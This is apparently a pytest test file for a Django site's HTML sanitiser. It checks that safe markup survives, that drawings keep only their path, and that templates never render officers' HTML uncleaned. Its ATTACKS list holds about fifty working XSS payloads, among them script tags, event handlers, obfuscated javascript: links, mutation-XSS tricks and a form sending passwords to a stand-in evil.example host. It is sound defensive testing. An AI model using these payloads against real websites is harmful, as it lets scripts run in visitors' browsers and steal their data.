"""What an officer's HTML may hold. Every attack here must be harmless under any sanitiser that takes bleach's place."""

import re

import html5lib
import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from engage.core.html import ALLOWED_TAGS, clean_drawing, clean_html
from home.models import StandardPage
from tests.databases import ROOT
from tests.factories import make_front_page

KEPT = [
    ("<p>Buses <strong>at</strong> <em>night</em></p>",) * 2,
    ("<h2>Why</h2><ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Said</blockquote>",) * 2,
    ('<a href="https://www.example.org/a?b=c">there</a>',) * 2,
    ('<a href="mailto:team@example.org">write</a>',) * 2,
    ('<a href="/decisions/">here</a>',) * 2,
    ("Fish & chips < £5", "Fish &amp; chips &lt; £5"),
    ("<div><p>Inside</p></div>", "<p>Inside</p>"),
    ('<p class="x" style="color:red" id="y">Plain</p>', "<p>Plain</p>"),
    ("", ""),
]

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "< script >alert(1)</ script >",
    "<script\x00>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><animate onbegin=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example">',
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '"><script>alert(1)</script>',
    "<p/onclick=alert(1)>x",
    "<b <script>alert(1)</script>0",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def assert_harmless(cleaned: str) -> None:
    """As a browser reads it: allowed elements only, no attribute but a safe address."""
    for element in html5lib.parseFragment(cleaned, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in ALLOWED_TAGS, cleaned
        assert set(element.attrib) <= {"href"}, cleaned
        address = re.sub(r"[\x00-\x20]", "", element.get("href", ""))
        scheme = SCHEME.match(address)
        assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}, cleaned


def test_the_check_itself_sees_an_attack():
    for attack in ("<script>x</script>", '<img src="x">', '<a href="javascript:x">y</a>', '<p onclick="x">y</p>'):
        with pytest.raises(AssertionError):
            assert_harmless(attack)


@pytest.mark.parametrize(("given_", "expected"), KEPT)
def test_what_officers_write_stays(given_, expected):
    assert clean_html(given_) == expected


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_harmless(attack):
    assert_harmless(clean_html(attack))
    assert_harmless(clean_html(f"<p>Before</p>{attack}<p>After</p>"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack):
    once = clean_html(attack)
    assert clean_html(once) == once


def test_scripts_go_with_what_is_in_them():
    assert clean_html("<p>One</p><script>alert('two')</script><style>three</style>") == "<p>One</p>"


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", '"', "'", "=", " ", "&", ";", "script", "svg", "style", "img", "p", "a", "on", "href"]
    + [
        "javascript:",
        "error",
        "load",
        "<!--",
        "-->",
        "]]>",
        "\x00",
        "\n",
        "alert(1)",
        "src",
        "math",
        "noscript",
        "title",
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join) | st.text(max_size=60))
def test_whatever_is_given_is_harmless(html):
    cleaned = clean_html(html)
    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


# Drawings.

DRAWING = (
    '<?xml version="1.0"?><svg onload="alert(1)" viewBox="0 0 49 49"><path id="x" onclick="y" d="M4,4H5V5H4z"/></svg>'
)


def test_only_the_path_of_a_drawing_is_taken_over():
    assert clean_drawing(DRAWING, label='A "code" <here>') == (
        '<svg class="engage-qr" role="img" aria-label="A &quot;code&quot; &lt;here&gt;" viewBox="0 0 49 49" '
        'xmlns="http://www.w3.org/2000/svg"><rect width="100%" height="100%" fill="#fff"/>'
        '<path d="M4,4H5V5H4z" fill="#000"/></svg>'
    )


@pytest.mark.parametrize("svg", ["", "<svg></svg>", '<svg viewBox="0 0 1 1"><path d="javascript:"/></svg>'])
def test_what_is_no_drawing_is_refused(svg):
    with pytest.raises(ValueError, match="not a drawing"):
        clean_drawing(svg, label="x")


def test_no_template_shows_officers_html_uncleaned():
    shown = [line for path in (ROOT / "templates").rglob("*.html") for line in path.read_text().splitlines()]
    rich = [line for line in shown if "|richtext" in line]
    assert rich
    assert [line for line in rich if "|richtext|cleaned }}" not in line] == []
    assert [line for line in shown if "|safe" in line] == []


def test_what_came_into_the_database_another_way_is_harmless(db):
    body = '<p>Kept</p><script>alert(1)</script><a href="javascript:alert(1)">x</a><img src="x" onerror="alert(1)">'
    page = make_front_page().add_child(instance=StandardPage(title="Privacy", slug="privacy", body=body))
    shown = Client().get(page.url).content.decode()
    main = shown[shown.index("<main") : shown.index("</main>")]
    assert "<p>Kept</p>" in main
    assert_harmless(main[main.index("<p>Kept") : main.index("</div>")])
